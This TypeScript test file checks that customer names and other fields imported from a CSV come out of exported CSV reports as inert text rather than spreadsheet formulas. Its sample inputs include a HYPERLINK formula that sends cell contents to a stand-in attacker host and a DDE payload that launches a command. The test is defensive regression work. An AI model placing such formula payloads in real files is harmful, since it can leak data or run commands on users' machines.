import { mkdirSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Core } from '../../../src-main/core';
import { parseCsv } from '../../../src-main/core/csv';
import { openInProcessCore } from '../../support/coreHarness';
import { makeTempDir } from '../../support/tempDir';

/**
 * CSV injection end to end: customer names, owners and segments imported from a CRM file that a
 * spreadsheet would run as formulas come out of every exported CSV as inert text.
 */
const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)'];
let dir: ReturnType<typeof makeTempDir>;
let core: Core;

beforeAll(async () => {
  dir = makeTempDir('pulse-csvinj-');
  core = await openInProcessCore({ dataDir: dir.path });
});
afterAll(async () => {
  await core?.close();
  dir?.remove();
});

describe('imported CSV values in exports', () => {
  it('values starting with =, +, -, @ are neutralised in every exported CSV file', async () => {
    const rows = hostile.map(
      (value, i) =>
        `"${value.replace(/"/g, '""')} ${i}",${value.startsWith('=') ? 'x' : i}.example,"${value.replace(/"/g, '""')}","${value.replace(/"/g, '""')}"`,
    );
    const imported = await core.handlers['customers.import'](
      { csv: ['name,domain,owner,segment', ...rows].join('\n') },
      undefined,
    );
    expect(imported.created).toBe(hostile.length);

    const target = join(dir.path, 'out');
    mkdirSync(target, { recursive: true });
    await core.handlers['reports.export']({ kind: 'portfolio', format: 'csv', target, pageSize: 'A4', bom: false }, undefined);
    const files = readdirSync(target).filter((f) => f.endsWith('.csv'));
    expect(files.length).toBeGreaterThan(0);

    let hostileCells = 0;
    for (const file of files) {
      for (const row of parseCsv(readFileSync(join(target, file), 'utf8'))) {
        for (const cell of row) {
          // A spreadsheet runs a cell starting with these; a leading quote makes it text.
          expect(cell, `${file}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
          if (hostile.some((h) => cell.includes(h))) hostileCells++;
        }
      }
    }
    // The values are there, as text: the export neither dropped nor mangled them.
    expect(hostileCells).toBeGreaterThanOrEqual(hostile.length);
  });
});
